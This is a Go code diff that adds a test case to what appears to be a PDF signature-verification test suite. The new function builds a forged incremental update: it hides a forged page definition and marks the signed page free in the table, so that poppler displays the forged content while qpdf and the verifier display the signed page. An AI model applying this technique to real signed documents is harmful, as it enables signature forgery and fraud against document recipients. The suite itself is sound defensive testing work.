@@ -122,6 +122,11 @@ func structure(p *PKI, b *Base) ([]Case, error) {
 				Evidence{Shows: ForgedText, Hides: b.Marker})
 		},
 		func() ([]Case, error) {
+			doc, err := plainBeforePacked(b.PDF)
+			return attack(ClassStructure, b, "page dictionary free in a hybrid table and packed unchanged, a forged plain definition before it", doc, err,
+				Evidence{Shows: ForgedText, Hides: b.Marker})
+		},
+		func() ([]Case, error) {
 			doc, err := encryptedLater(b.PDF)
 			return attack(ClassStructure, b, "/Encrypt (RC4, empty user password) added by an update", doc, err, Evidence{Hides: b.Marker, Renders: true})
 		},
@@ -391,6 +396,43 @@ func hiddenCatalog(doc []byte) ([]byte, error) {
 		"trailer\n<< /Size 9006 /Root 9001 0 R >>",
 	}, "\n")
 	return fmt.Appendf(out, "%d 0 obj\n%s\nendobj\n", n+2, Stream("", "\n"+forged+"\n")), nil
+}
+
+// plainBeforePacked appends to doc, after its last %%EOF and without a
+// section of its own, a forged definition of page 1's dictionary (and the
+// content it points to), then a hybrid-reference update that rewrites the
+// page unchanged in an object stream, listed by its /XRefStm stream, while
+// its table marks the page free. kyso's reading and its scan (an object of
+// an object stream counts where its stream is, after the forged one), as
+// qpdf's, give the signed page. poppler, failing to fetch the free page,
+// rebuilds the table from the plain definitions only, and shows the forged
+// page.
+func plainBeforePacked(doc []byte) ([]byte, error) {
+	page, err := PageOf(doc, 1)
+	if err != nil {
+		return nil, err
+	}
+	in, err := readInfo(doc)
+	if err != nil {
+		return nil, err
+	}
+	n := in.size
+	forged, err := withContents(page.Body, fmt.Sprintf("%d 0 R", n+10))
+	if err != nil {
+		return nil, err
+	}
+	pre := fmt.Appendf(bytes.Clone(doc), "%d 0 obj\n%s\nendobj\n%d 0 obj\n%s\nendobj\nstartxref\n%d\n%%%%EOF\n",
+		page.ID, forged, n+10, Stream("", forgedContent("F1")), in.startxref)
+	out, err := Append(pre, Update{Form: Hybrid, Packed: map[int]string{page.ID: page.Body}})
+	if err != nil {
+		return nil, err
+	}
+	table := bytes.LastIndex(out, []byte("\nxref\n"))
+	if table < 0 {
+		return nil, errors.New("no table in the update")
+	}
+	table += len("\nxref\n")
+	return append(append(bytes.Clone(out[:table]), fmt.Sprintf("%d 1\n0000000000 00001 f\r\n", page.ID)...), out[table:]...), nil
 }
 
 // passwordPad is the padding of ISO 32000-1, 7.6.3.3, Algorithm 2.
